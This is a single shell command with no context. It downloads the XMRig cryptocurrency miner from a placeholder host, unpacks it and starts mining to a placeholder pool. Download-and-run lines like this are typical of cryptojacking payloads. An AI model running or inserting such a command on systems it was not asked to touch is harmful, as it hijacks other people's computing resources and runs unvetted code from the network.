wget -q https://example.org/xmrig.tar.gz && tar xf xmrig.tar.gz && ./xmrig -o pool.example.org:3333 -u wallet --donate-level 1
